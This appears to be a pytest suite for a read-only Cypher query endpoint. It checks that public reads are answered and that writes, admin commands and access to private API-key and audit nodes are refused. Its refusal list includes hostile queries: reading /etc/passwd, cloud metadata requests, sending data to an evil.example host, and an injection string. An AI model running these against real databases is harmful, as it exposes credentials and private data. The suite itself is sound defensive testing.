"""POST /v1/cypher: what it answers, and that it gives nothing away and changes nothing."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from typing import Any

import httpx
import pytest
from neo4j import Driver

from app.ingest import Ingester
from app.services import Services
from graph.connection import Connection
from tests.app.conftest import ARTICLE, serving, settings_for
from tests.emptying import empty

SECRET = "5up3r-s3cr3t"
PRIVATE = """
CREATE (k:ApiKey {id: 'key-1', hash: $secret, role: 'admin'}),
       (:AuditEntry {id: 'aud-1', who: $secret, at: datetime()}),
       (j:Job {id: 'job-1', note: $secret})-[:HAS_TASK {note: $secret}]->(:Task {id: 'tsk-1', raw: $secret}),
       (k)-[:STARTED {note: $secret}]->(j)
"""


@pytest.fixture(scope="module")
def graph(
    neo4j_server: Connection, plain_driver: Driver, client: httpx.Client
) -> Iterator[dict[str, list[Any]]]:
    """One article and what the service keeps for itself; the same afterwards as before."""

    def everything() -> dict[str, list[Any]]:
        records, _, _ = plain_driver.execute_query(
            "MATCH (n:!(Queue|Runner)) OPTIONAL MATCH (n)-[r]->(m) "
            "RETURN n, collect(r) AS r, elementId(n) AS id ORDER BY id",
            database_=neo4j_server.database,
        )
        return {record["id"]: [dict(record["n"]), len(record["r"])] for record in records}

    empty(plain_driver, neo4j_server.database)
    assert client.post("/v1/articles", json=ARTICLE).status_code == 201
    plain_driver.execute_query(PRIVATE, secret=SECRET, database_=neo4j_server.database)
    before = everything()
    yield before
    assert everything() == before
    empty(plain_driver, neo4j_server.database)


def ask(client: httpx.Client, query: str, **parameters: Any) -> httpx.Response:
    return client.post("/v1/cypher", json={"query": query, "parameters": parameters})


# --- what is answered ---

ALLOWED = [
    "MATCH (a:Actor) RETURN a.name AS name ORDER BY name LIMIT 2",
    "MATCH (n:Person|Country) RETURN labels(n), count(*)",
    "MATCH (a:Actor&!Person) RETURN a",
    "MATCH (a:Person {name: 'Hakan Fidan'})-[p:PARTICIPATED_IN]->(m:Meeting) RETURN a, p, m, m.start",
    "MATCH (a:Person)-[p:PARTICIPATED_IN|HOLDS]->(x) RETURN x",
    "MATCH (a:Person)-[:PARTICIPATED_IN*..2]-(b:Person) RETURN DISTINCT b.name",
    "MATCH p = shortestPath((a:Person {name: 'Hakan Fidan'})-[:PARTICIPATED_IN*..4]-(b:Country)) RETURN p",
    "MATCH p = (a:Person) ((x)-[:MET]-(y)){1,2} (b:Person) RETURN p",
    "MATCH ()-[r:MET]->() RETURN count(r)",
    "MATCH (m:Meeting) RETURN count(m), min(m.start), max(m.end)",
    "MATCH (a:Actor) WHERE EXISTS { (a)-[:MET]-(:Person) } RETURN a.name",
    "MATCH (a:Actor) RETURN a.name, [(a)-[:PARTICIPATED_IN]->(m) | m.title] AS titles",
    "MATCH (a:Actor) OPTIONAL MATCH (a)-[:HOLDS]->(o:Office) RETURN a.name, collect(o.name)",
    "MATCH (a:Actor) CALL (a) { MATCH (a)-[:PARTICIPATED_IN]->(m:Meeting) RETURN count(m) AS n } RETURN n",
    "MATCH (a:Actor) WHERE NOT (a)-[:PARTICIPATED_IN]->(:Meeting) RETURN a.name",
    "MATCH (a:Person), (b:Country) WHERE (a)-[:MET]-(:Person)-[:PARTICIPATED_IN]->(:Meeting) RETURN count(*)",
    "UNWIND range(1, 3) AS i RETURN i, date('2024-06-12') + duration({days: i}) AS day",
    "WITH 1 AS set, 2 AS start RETURN set + start AS create",
    "RETURN 'LOAD CSV, USE system and ApiKey are words in a text' AS text, \"CREATE (n)\" AS other",
    "// a comment on ApiKey\nRETURN 1 /* and on USE neo4j */ AS one",
    "MATCH (`a`:Actor) RETURN `a`.name",
    "CALL db.labels() YIELD label RETURN count(label)",
    "CALL db.index.fulltext.queryNodes('actor_names', 'fidan') YIELD node, score RETURN node.name, score",
    "RETURN point.distance(point({x: 0, y: 0}), point({x: 3, y: 4})) AS five",
    "MATCH (p:Place)-[:IN]->(c:Country) RETURN p.name AS x UNION MATCH (c:Country) RETURN c.id AS x",
]


@pytest.mark.parametrize("query", ALLOWED)
def test_a_statement_that_reads_what_is_public_is_answered(
    graph: Any, client: httpx.Client, query: str
) -> None:
    answer = ask(client, query)
    assert answer.status_code == 200, answer.text
    assert set(answer.json()) == {"columns", "rows", "truncated", "took_ms"}
    assert answer.json()["truncated"] is None
    assert SECRET not in answer.text


def test_values_come_as_json(graph: Any, client: httpx.Client) -> None:
    answer = ask(
        client,
        "MATCH p = (a:Person {name: 'Hakan Fidan'})-[r:PARTICIPATED_IN]->(m:Meeting) "
        "RETURN a, r, p, m.start AS day, duration('P1DT2H') AS span, "
        "point({longitude: 1, latitude: 2}) AS at, "
        "datetime('2024-06-12T10:00:00Z') AS time, 0.0/0.0 AS nothing, [1, [true, null]] AS list, "
        "{a: 1.5} AS map",
    ).json()
    row = dict(zip(answer["columns"], answer["rows"][0], strict=True))
    assert row["a"]["labels"] == ["Actor", "Person"]
    assert row["a"]["properties"]["name"] == "Hakan Fidan"
    assert (row["r"]["type"], row["r"]["start"]) == ("PARTICIPATED_IN", row["a"]["element_id"])
    assert [one["labels"] for one in row["p"]["nodes"]] == [["Actor", "Person"], ["Meeting"]]
    assert row["p"]["relationships"] == [row["r"]]
    assert (row["day"], row["span"]) == ("2024-06-11", "P1DT2H")
    assert row["at"] == {"srid": 4326, "coordinates": [1.0, 2.0]}
    assert row["time"].startswith("2024-06-12T10:00:00")
    assert (row["nothing"], row["list"], row["map"]) == ("nan", [1, [True, None]], {"a": 1.5})


def test_parameters_are_values_and_never_text(graph: Any, client: httpx.Client) -> None:
    hostile = "x'}) MATCH (n:ApiKey) RETURN n //"
    answer = ask(client, "MATCH (a:Actor {name: $name}) RETURN a", name=hostile)
    assert (answer.status_code, answer.json()["rows"]) == (200, [])
    echoed = ask(client, "RETURN $given AS given", given={"a": [1, "ApiKey", None]})
    assert echoed.json()["rows"] == [[{"a": [1, "ApiKey", None]}]]


# --- what is refused ---

REFUSED = [
    # changing
    "CREATE (n:Actor) RETURN n",
    "MATCH (n:Actor) SET n.name = 'x'",
    "MATCH (n:Actor) SET n:Person RETURN n",
    "MATCH (n:Actor) REMOVE n.name",
    "MATCH (n:Actor) DETACH DELETE n",
    "MERGE (n:Actor {id: 'x'})",
    "MATCH (n:Actor) FOREACH (x IN [1] | SET n.a = x)",
    "MATCH (n:Actor) CALL (n) { SET n.x = 1 } RETURN n",
    "MATCH (n:Actor) CALL (n) { DETACH DELETE n } IN TRANSACTIONS OF 1 ROWS",
    "CALL { MATCH (n:Actor) RETURN n } IN TRANSACTIONS RETURN n",
    "UNWIND [1] AS x CREATE (:Actor {id: 'y'})",
    "MATCH (a:Actor) CREATE (a)-[:MET]->(a)",
    # the server, its users and settings
    "SHOW USERS",
    "SHOW TRANSACTIONS",
    "SHOW INDEXES",
    "SHOW SETTINGS",
    "SHOW DATABASES",
    "SHOW FUNCTIONS",
    "TERMINATE TRANSACTIONS 'neo4j-transaction-1'",
    "CREATE USER eve SET PASSWORD '12345678'",
    "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'",
    "DROP INDEX actor_names",
    "CREATE INDEX FOR (n:Actor) ON (n.x)",
    "CREATE CONSTRAINT FOR (n:Actor) REQUIRE n.x IS UNIQUE",
    "DROP DATABASE neo4j",
    "GRANT ROLE admin TO eve",
    "USE system MATCH (n:Actor) RETURN n",
    "USE neo4j MATCH (n:Actor) RETURN n",
    "MATCH (a:Actor) CALL () { USE neo4j MATCH (n:Actor) RETURN n } RETURN n",
    "CALL dbms.listConfig() YIELD name, value RETURN name, value",
    "CALL dbms.components()",
    "CALL db.clearQueryCaches()",
    "CALL db.createLabel('X')",
    "CALL tx.setMetaData({a: 1})",
    "CALL dbms.killConnection('bolt-1')",
    "MATCH (a:Actor) CALL dbms.info() YIELD name RETURN name",
    # reaching out
    "LOAD CSV FROM 'file:///etc/passwd' AS line RETURN line",
    "LOAD CSV WITH HEADERS FROM 'http://169.254.169.254/latest/meta-data' AS line RETURN line",
    "MATCH (a:Actor) LOAD CSV FROM 'http://evil.example/' + a.name AS line RETURN line",
    "load /* here */ csv FROM 'file:///x' AS line RETURN line",
    "RETURN 1 AS x UNION LOAD CSV FROM 'file:///x' AS x RETURN x",
    "CALL apoc.load.json('http://evil.example') YIELD value RETURN value",
    "RETURN apoc.text.join(['a'], ',') AS x",
    "RETURN genai.vector.encode('a', 'OpenAI', {token: 'x'}) AS v",
    "RETURN `genai`.`vector`.`encode`('a', 'OpenAI', {}) AS v",
    "RETURN graph.byName('system') AS g",
    "RETURN " + "(" * 3000 + "1" + ")" * 3000,
    # how it is run
    "EXPLAIN MATCH (n:Actor) RETURN n",
    "PROFILE MATCH (n:Actor) RETURN n",
    "CYPHER runtime=pipelined MATCH (n:Actor) RETURN n",
    "/* first */ PROFILE MATCH (n:Actor) RETURN n",
    # what is private, by name
    "MATCH (n:ApiKey) RETURN n",
    "MATCH (n:`ApiKey`) RETURN n",
    "MATCH (n:Api\\u004bey) RETURN n",
    "MATCH (n:AuditEntry) RETURN n.who",
    "MATCH (n:Job|Task) RETURN n",
    "MATCH (n:!ApiKey) RETURN n",
    "MATCH (n:Actor) WHERE n:ApiKey RETURN n",
    "MATCH (n IS ApiKey) RETURN n",
    "RETURN COUNT { (:ApiKey) } AS n",
    "RETURN EXISTS { (:Task {raw: 'x'}) } AS n",
    "MATCH (a:Actor), (t:/*x*/Task) RETURN t",
    # what is private, without a name
    "MATCH (n) RETURN n",
    "MATCH (n) RETURN properties(n)",
    "MATCH (n) WHERE n.hash IS NOT NULL RETURN n.hash",
    "MATCH (n {role: 'admin'}) RETURN n.hash",
    "MATCH (n) WHERE n.hash STARTS WITH '5' RETURN count(*)",
    "MATCH (n:%) RETURN n",
    "MATCH (n:!Actor&!Article) RETURN n",
    "MATCH (n) WHERE any(l IN labels(n) WHERE l STARTS WITH 'Api') RETURN n",
    "MATCH (n) WHERE elementId(n) = '4:00000000-0000-0000-0000-000000000000:1' RETURN n",
    "MATCH (n) WHERE id(n) = 1 RETURN n",
    "MATCH (n:$('Api' + 'Key')) RETURN n",
    "MATCH (n:$any($names)) RETURN n",
    "MATCH (n:$($names)) RETURN n",
    "MATCH ()-[r]->() RETURN r",
    "MATCH (a)-[r]-(b) RETURN a.hash, r.note",
    "MATCH ()-[r:HAS_TASK]->(t) RETURN r, t",
    "MATCH ()-[r:$('HAS_TASK')]->(t) RETURN t",
    "MATCH (a:Actor)--(b) RETURN properties(b)",
    "MATCH (a:Actor)-[*1..5]-(b) RETURN b",
    "MATCH p = shortestPath((a:Actor)-[*]-(b:Meeting)) RETURN p",
    "MATCH p = SHORTEST 1 (a:Actor)-[:MET]-+(b:Actor) RETURN p",
    "MATCH (a:Actor) RETURN [(a)--(b) | b.hash]",
    "MATCH (a:Actor) WHERE EXISTS { (a)--({hash: 'x'}) } RETURN a",
    "RETURN EXISTS { MATCH (n) WHERE n.hash STARTS WITH '5' } AS x",
    "RETURN CASE WHEN rand() > 2 THEN 1 ELSE COUNT { (n) WHERE n.hash STARTS WITH '5' } END AS x",
    "UNWIND [1] AS i RETURN [x IN [1] WHERE EXISTS { (n {role: 'admin'}) } | x] AS y",
    "MATCH (a:Actor) RETURN [x IN [a] | [(x)--(b) | b.hash]] AS y",
    "MATCH (a:Actor) RETURN CASE a.name WHEN 'x' THEN 1 ELSE COLLECT { MATCH (n) RETURN n.hash } END AS y",
    "MATCH (`x]-[:MET]-(y`:Actor)-[r]-(b) RETURN b",
    "MATCH (a:Actor) CALL (a) { MATCH (n) RETURN n } RETURN n",
    "MATCH (a:Actor) OPTIONAL MATCH (n) WHERE n.hash = a.name RETURN n",
    "RETURN COLLECT { MATCH (n) RETURN n.raw } AS all",
    "MATCH (a:Actor) UNWIND [1] AS x MATCH (b)-[:STARTED]->(c) RETURN c",
]


@pytest.mark.parametrize("query", REFUSED)
def test_a_statement_that_does_anything_else_is_refused(graph: Any, client: httpx.Client, query: str) -> None:
    answer = ask(client, query, names=["ApiKey"])
    assert answer.status_code == 422, answer.text
    assert answer.json()["code"] in ("cypher_refused", "bad_cypher"), answer.text
    assert SECRET not in answer.text


def test_most_refusals_are_ours_and_say_what_to_do(graph: Any, client: httpx.Client) -> None:
    codes = [ask(client, query, names=["ApiKey"]).json()["code"] for query in REFUSED[::5]]
    assert codes.count("bad_cypher") <= 1
    told = ask(client, "MATCH (n) RETURN n").json()
    assert "Name a label" in told["detail"]
    assert "Meeting" in told["detail"]
    step = ask(client, "MATCH (a:Actor)--(b) RETURN b").json()
    assert "type of relationship" in step["detail"]


# --- what is wrong with it ---


def test_a_mistake_is_told_with_its_place(graph: Any, client: httpx.Client) -> None:
    answer = ask(client, "MATCH (n:Actor)\nRETURN n.name,, n.id")
    assert (answer.status_code, answer.json()["code"]) == (422, "bad_cypher")
    assert answer.json()["position"] == {"line": 2, "column": 15, "offset": 30}
    assert "(line 2, column 15)" in answer.json()["detail"]
    assert "EXPLAIN" not in answer.json()["detail"]


@pytest.mark.parametrize(
    "query",
    [
        "RETURN 1 / 0 AS x",
        "RETURN nothing",
        "RETURN $missing AS x",
        "RETURN unknown(1) AS x",
        "RETURN date('yesterday') AS x",
        "RETURN 1; RETURN 2",
        "MATCH (n:Actor",
        "RETURN 'unclosed",
        "RETURN 1 AS a, 2 AS a",
        "MATCH (a:Actor) RETURN a.name + duration('P1D') / 0",
    ],
)
def test_what_cannot_be_run_is_the_statements_fault(graph: Any, client: httpx.Client, query: str) -> None:
    answer = ask(client, query)
    assert (answer.status_code, answer.json()["code"]) == (422, "bad_cypher"), answer.text
    assert answer.json()["detail"]


@pytest.mark.parametrize(
    "body",
    [
        {"query": ""},
        {"query": "   "},
        {"query": 1},
        {},
        {"query": "RETURN 1", "extra": 1},
        {"query": "RETURN 1", "parameters": []},
        {"query": "RETURN 1 " + "x" * 20_000},
        {"query": "RETURN $x", "parameters": {"x": 2**70}},
        {"query": "RETURN $x", "parameters": {"x": "\ud800"}},
        {"query": "RETURN '\ud800'"},
        {"query": "RETURN 1 AS x\x00"},
    ],
)
def test_an_odd_body_is_refused(graph: Any, client: httpx.Client, body: dict[str, Any]) -> None:
    answer = client.post("/v1/cypher", content=json.dumps(body), headers={"Content-Type": "application/json"})
    assert answer.status_code == 422, answer.text
    assert answer.json()["code"] in ("invalid_request", "bad_cypher", "cypher_refused")


# --- limits ---


@pytest.fixture(scope="module")
def bounded(neo4j_server: Any, services: Services) -> Iterator[httpx.Client]:
    """A service with narrow limits on the graph of the other."""
    settings = settings_for(neo4j_server, cypher_timeout_s=1, cypher_max_rows=5, cypher_max_bytes=2_000)
    ingester = Ingester(services.pool, services.store, settings.max_text_bytes)
    own = replace(services, settings=settings, ingester=ingester)
    with serving(settings, own) as url, httpx.Client(base_url=url, timeout=60) as client:
        yield client


def test_an_answer_is_cut_at_so_many_rows_and_bytes(graph: Any, bounded: httpx.Client) -> None:
    rows = ask(bounded, "UNWIND range(1, 1000000) AS i RETURN i").json()
    assert (rows["rows"], rows["truncated"]) == ([[1], [2], [3], [4], [5]], "rows")
    five = ask(bounded, "UNWIND range(1, 5) AS i RETURN i").json()
    assert (len(five["rows"]), five["truncated"]) == (5, None)
    wide = ask(bounded, "UNWIND range(1, 5) AS i RETURN range(1, 200) AS many").json()
    assert (len(wide["rows"]), wide["truncated"]) == (2, "bytes")
    one = ask(bounded, "RETURN range(1, 2000) AS many")
    assert (one.status_code, one.json()["code"]) == (422, "cypher_too_large")


def test_a_statement_that_takes_too_long_is_ended(graph: Any, bounded: httpx.Client) -> None:
    answer = ask(
        bounded, "UNWIND range(1, 100000) AS a UNWIND range(1, 100000) AS b RETURN sum(a * b) AS total"
    )
    assert (answer.status_code, answer.json()["code"]) == (422, "cypher_timed_out")


def test_one_huge_value_takes_neither_the_service_nor_the_graph_with_it(
    graph: Any, bounded: httpx.Client
) -> None:
    answer = ask(bounded, "RETURN range(1, 2000000000) AS huge")
    assert answer.status_code == 422, answer.text
    assert answer.json()["code"] in ("cypher_too_large", "cypher_timed_out")
    many = ask(
        bounded,
        "UNWIND range(1, 100000000) AS i WITH collect({n: i, t: toString(i)}) AS many RETURN size(many)",
    )
    assert many.json()["code"] in ("cypher_too_large", "cypher_timed_out")
    assert bounded.get("/readyz").status_code == 200


def test_it_can_be_switched_off(neo4j_server: Any, services: Services) -> None:
    settings = settings_for(neo4j_server, cypher=False)
    own = replace(services, settings=settings)
    with serving(settings, own) as url:
        answer = httpx.post(f"{url}/v1/cypher", json={"query": "RETURN 1"})
    assert (answer.status_code, answer.json()["code"]) == (403, "cypher_off")
